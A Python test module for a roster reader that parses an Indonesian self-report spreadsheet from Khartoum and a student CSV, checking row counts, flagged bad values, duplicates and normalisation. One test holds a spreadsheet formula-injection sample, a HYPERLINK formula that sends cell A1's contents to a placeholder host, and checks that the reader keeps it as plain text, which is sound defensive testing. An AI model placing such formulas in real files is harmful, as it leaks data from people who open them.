"""The two shared rosters are read exactly as their truth says."""

from __future__ import annotations

import json

import pytest

from console.formats.roster.reading import read_roster
from console.formats.roster.shapes import Ask, DateOrder, RosterReading
from console.model.words import CheckResult, IdentifierType
from tests.formats.rosters import SHARED, TODAY

pytestmark = pytest.mark.skipif(not (SHARED / "truth.json").exists(), reason="the shared data is not beside this clone")

FLAG_BY_WHY = {
    "born in the future": "born-in-future",
    "nik of 15 digits": "nik-odd",
    "passport of 3 letters": "passport-odd",
    "date 31/02/1990": "date-impossible",
    "longitude 999": "position-off-earth",
}


def _read(name: str) -> RosterReading:
    return read_roster((SHARED / name).read_bytes(), Ask(TODAY, calling_code="249"))


@pytest.fixture(scope="module")
def khartoum() -> RosterReading:
    return _read("lapor-diri-khartoum.xlsx")


@pytest.fixture(scope="module")
def truth() -> dict[str, list[dict[str, object]]]:
    told: dict[str, list[dict[str, object]]] = json.loads((SHARED / "truth.json").read_text("utf-8"))
    return told


def test_that_the_sheet_and_its_header_are_found(khartoum: RosterReading) -> None:
    assert (khartoum.sheet, khartoum.header_row, khartoum.as_of) == ("DATA", 4, "2023-04-14")
    assert khartoum.sheets == ("Petunjuk", "DATA")
    assert all(column.field for column in khartoum.columns)


def test_that_every_row_is_counted(khartoum: RosterReading, truth: dict[str, list[dict[str, object]]]) -> None:
    assert khartoum.read == truth["data_rows"] == 1250
    assert [reject.row for reject in khartoum.rejects] == [told["row"] for told in truth["rejected"]]
    assert (khartoum.skipped.title, khartoum.skipped.blank, khartoum.skipped.total) == (2, 4, 1)


def test_that_exactly_the_wrong_rows_are_flagged(
    khartoum: RosterReading, truth: dict[str, list[dict[str, object]]]
) -> None:
    told = {flag["row"]: (FLAG_BY_WHY[str(flag["why"])],) for flag in truth["flagged"]}
    assert {row.row: row.flags for row in khartoum.rows if row.flags} == told
    assert khartoum.flagged == 5


def test_that_twins_stand_where_the_truth_says(
    khartoum: RosterReading, truth: dict[str, list[dict[str, object]]]
) -> None:
    rows = {row.row: row for row in khartoum.rows}
    for twin in truth["duplicates"]:
        passports = {
            found.value for found in rows[int(str(twin["row"]))].identifiers if found.type is IdentifierType.PASSPORT
        }
        assert passports <= {twin["same_as_passport"]}


def test_that_every_cell_comes_to_one_form(khartoum: RosterReading) -> None:
    assert all(str(row.person["phone"]).startswith("+249") for row in khartoum.rows)
    assert all(str(row.person["whatsapp"]).startswith("+62") for row in khartoum.rows)
    assert sum(1 for row in khartoum.rows if len(str(row.person.get("born", ""))) == 10) == 1247
    checks = [found.check for row in khartoum.rows for found in row.identifiers if found.type is IdentifierType.NIK]
    assert (checks.count(CheckResult.UNCERTAIN), checks.count(CheckResult.BAD)) == (179, 1)
    assert {row.person["sex"] for row in khartoum.rows} == {"male", "female"}


def test_that_the_formula_cell_stays_text(khartoum: RosterReading) -> None:
    notes = [str(row.registration["note"]) for row in khartoum.rows if "=" in str(row.registration.get("note", ""))]
    assert notes == ['=HYPERLINK("http://example.invalid/"&A1,"klik")']


def test_that_the_month_first_order_of_the_students_is_noticed() -> None:
    reading = _read("student-union.csv")
    assert (reading.read, reading.flagged, reading.delimiter) == (225, 0, ";")
    assert reading.date_orders == (DateOrder(4, "Date of birth", "m/d", True),)
    assert reading.rows[0].person["born"] == "1989-09-20"
